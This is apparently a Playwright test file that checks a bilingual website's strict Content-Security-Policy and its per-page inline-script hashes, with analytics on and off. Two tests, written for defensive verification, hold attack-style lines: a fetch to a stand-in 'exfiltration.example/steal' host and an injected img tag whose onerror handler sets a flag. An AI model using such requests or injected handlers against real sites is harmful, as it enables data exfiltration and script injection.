// Every page, with analytics on (the main build) and off (the degraded build), loads without a
// single Content-Security-Policy violation: the policy is strict and still lets the site and Google
// Analytics work. Each page's policy lets exactly the inline scripts of the HTML served run, by
// their hashes: prerendered, regenerated, the 404 and the content-failure state. There is no
// network here, so Google's tag script is answered locally with a stand-in that makes the kinds
// of requests the real one makes (a collect call and a pixel).
import { expectNotModifiedKeepsPolicy, expectPolicyMadeForPage, policyHashes, settle, watchPolicy } from './csp-support'
import { expect, HOME_ARTICLE_ID, test } from './support'

test.describe('Content-Security-Policy in the browser, analytics on', () => {
  for (const [name, path, status] of [
    ['home page', '/', 200],
    ['contact page', '/contact', 200],
    ['404 page', '/no-such-page-for-the-csp-test', 404],
    ['Spanish home page', '/es', 200],
    ['Spanish contact page', '/es/contacto', 200],
    ['Spanish 404 page', '/es/no-existe-para-la-prueba', 404],
  ] as const) {
    test(`the ${name} loads Google Analytics and breaks no rule of the policy`, async ({ page }) => {
      const policy = await watchPolicy(page)
      const response = await page.goto(path)
      expect(response?.status()).toBe(status)
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      await settle(page)
      expect(policy.gtagRequests()).toBeGreaterThan(0)
      expect(await policy.violations()).toEqual([])
    })
  }

  test('following the footer link to Contact Us breaks no rule either', async ({ page }) => {
    const policy = await watchPolicy(page)
    await page.goto('/')
    await settle(page)
    await page.getByRole('contentinfo').getByRole('link', { name: 'Contact Us' }).click()
    await expect(page).toHaveURL(/\/contact$/)
    await expect(page.getByRole('heading', { level: 1, name: /contact/i })).toBeVisible()
    await settle(page)
    expect(await policy.violations()).toEqual([])
  })

  test('the policy is enforced: a request to a host it does not list is blocked and reported', async ({ page }) => {
    const policy = await watchPolicy(page)
    await page.goto('/contact')
    await settle(page)
    const outcome = await page.evaluate(() =>
      fetch('https://exfiltration.example/steal').then(
        () => 'sent',
        () => 'blocked',
      ),
    )
    expect(outcome).toBe('blocked')
    await expect.poll(policy.violations).toEqual([
      expect.objectContaining({ directive: 'connect-src', blocked: 'https://exfiltration.example/steal' }),
    ])
  })

  test('an inline event handler that got into the page anyway does not run', async ({ page }) => {
    const policy = await watchPolicy(page)
    await page.goto('/contact')
    await settle(page)
    // As if markup had slipped past the sanitizer: the browser must refuse the handler.
    await page.evaluate(() => {
      document.querySelector('main')!.insertAdjacentHTML('beforeend', '<img src="/no-such-image.png" onerror="window.__handlerRan = true">')
    })
    await expect.poll(policy.violations).toEqual([expect.objectContaining({ directive: 'script-src-attr' })])
    expect(await page.evaluate(() => (window as { __handlerRan?: boolean }).__handlerRan)).toBeUndefined()
  })
})

test.describe('a policy made for each page from the HTML it serves', () => {
  for (const [name, path] of [
    ['home page', '/'],
    ['contact page', '/contact'],
    ['404 page', '/no-such-page-for-the-hash-test'],
    ['Spanish home page', '/es'],
    ['Spanish contact page', '/es/contacto'],
    ['Spanish 404 page', '/es/no-existe-para-la-prueba-de-hashes'],
  ] as const) {
    test(`the prerendered ${name} lists the hash of each inline script it carries, with analytics on`, async ({ page, baseURL }) => {
      const policy = await watchPolicy(page)
      await expectPolicyMadeForPage(page, `${baseURL}${path}`, 'on')
      expect(await policy.violations()).toEqual([])
    })
  }

  test('with analytics off, the policy lists the page scripts only, and nothing is blocked', async ({ page, degradedSite }) => {
    const policy = await watchPolicy(page)
    await expectPolicyMadeForPage(page, `${degradedSite.url}/contact`, 'off')
    await expectPolicyMadeForPage(page, `${degradedSite.url}/no-such-page-for-the-hash-test`, 'off')
    expect(policy.gtagRequests()).toBe(0)
    expect(await policy.violations()).toEqual([])
  })

  test("a regenerated page's policy is remade from its new HTML, and the page runs without a violation", async ({ page, baseURL, mainSite, stubCms }) => {
    const policy = await watchPolicy(page)
    const before = await expectPolicyMadeForPage(page, `${baseURL}/`, 'on')
    await stubCms.setArticle(HOME_ARTICLE_ID, '<h2>Regenerated for the policy test</h2><p>New plan details.</p>')
    await mainSite.revalidateNow([HOME_ARTICLE_ID])
    await expect(async () => {
      await page.goto('/')
      await expect(page.getByRole('heading', { name: 'Regenerated for the policy test' })).toBeVisible({ timeout: 1000 })
    }).toPass({ timeout: 20_000 })
    const after = await expectPolicyMadeForPage(page, `${baseURL}/`, 'on')
    expect(policyHashes(after)).not.toEqual(policyHashes(before))
    expect(await policy.violations()).toEqual([])
  })

  test('a 304 Not Modified carries the same policy as the page it confirms', async ({ request, baseURL }) => {
    for (const path of ['/', '/contact']) await expectNotModifiedKeepsPolicy(request, `${baseURL}${path}`)
  })

  test.describe('the content-failure state', () => {
    test('lists the hashes of its own inline scripts and breaks no rule', async ({ page, openFailureState }) => {
      const policy = await watchPolicy(page)
      await openFailureState()
      await expectPolicyMadeForPage(page, page.url(), 'off')
      expect(await policy.violations()).toEqual([])
    })
  })
})
